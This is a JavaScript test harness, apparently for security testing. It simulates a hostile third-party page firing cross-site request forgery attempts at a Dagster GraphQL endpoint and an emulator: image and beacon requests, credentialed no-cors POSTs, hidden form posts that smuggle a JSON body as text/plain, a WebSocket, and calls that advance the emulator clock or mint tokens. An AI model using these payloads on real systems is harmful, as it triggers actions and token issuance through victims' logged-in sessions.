// What a page of another website tries on Dagster and the emulator. Expects target, emulator and launch.
const json = JSON.stringify({query: launch});
const seen = [];
function note(name, promise) {
    return promise.then(v => seen.push([name, v]), e => seen.push([name, "error"]));
}
function image(url) {
    return new Promise((yes, no) => {
        const i = new Image();
        i.onload = () => yes("loaded");
        i.onerror = no;
        i.src = url;
    });
}
function form(url, kind, name, value) {
    return new Promise(yes => {
        const frame = document.createElement("iframe"); frame.name = "f" + Math.random();
        document.body.append(frame);
        const f = document.createElement("form");
        f.method = "POST"; f.action = url; f.enctype = kind; f.target = frame.name;
        const i = document.createElement("input"); i.name = name; i.value = value; f.append(i);
        document.body.append(f);
        frame.onload = () => yes("answered"); f.submit(); setTimeout(() => yes("silent"), 3000);
    });
}
function socket(url) {
    return new Promise(yes => {
        const s = new WebSocket(url, "graphql-ws"); s.onopen = () => yes("open"); s.onclose = () => yes("closed");
    });
}
window.attack = async () => {
    const get = target + "/graphql?query=" + encodeURIComponent(launch);
    await note("img", image(get));
    await note("no-cors get", fetch(get, {mode: "no-cors", credentials: "include"}).then(r => r.type));
    for (const kind of ["text/plain", "text/plain; application/json", "application/x-www-form-urlencoded"])
        await note("post " + kind, fetch(target + "/graphql", {method: "POST", mode: "no-cors", credentials: "include",
            headers: {"Content-Type": kind}, body: json}).then(r => r.type));
    await note("cors json", fetch(target + "/graphql", {method: "POST", credentials: "include",
        headers: {"Content-Type": "application/json"}, body: json}).then(r => r.text()));
    await note("beacon", Promise.resolve(navigator.sendBeacon(target + "/graphql", new Blob([json], {type: "text/plain"}))));
    await note("form", form(get, "application/x-www-form-urlencoded", "query", launch));
    await note("text form", form(target + "/graphql", "text/plain", '{"query":' + JSON.stringify(launch) + ',"x":"', '"}'));
    await note("multipart form", form(get, "multipart/form-data", "query", launch));
    await note("report", fetch(target + "/report_asset_materialization/reported", {method: "POST", mode: "no-cors",
        credentials: "include"}).then(r => r.type));
    await note("websocket", socket(target.replace("http", "ws") + "/graphql"));
    await note("emulator text", fetch(emulator + "/_emulator/advance", {method: "POST", mode: "no-cors",
        body: '{"days": 1}'}).then(r => r.type));
    await note("emulator form", form(emulator + "/_emulator/advance", "text/plain", '{"days": 1, "hours": 0}', ""));
    await note("emulator json", fetch(emulator + "/_emulator/advance", {method: "POST",
        headers: {"Content-Type": "application/json"}, body: '{"days": 1}'}).then(r => r.text()));
    await note("emulator token", fetch(emulator + "/_emulator/tokens", {method: "POST", mode: "no-cors",
        body: '{"account_id": 1}'}).then(r => r.type));
    return seen;
};
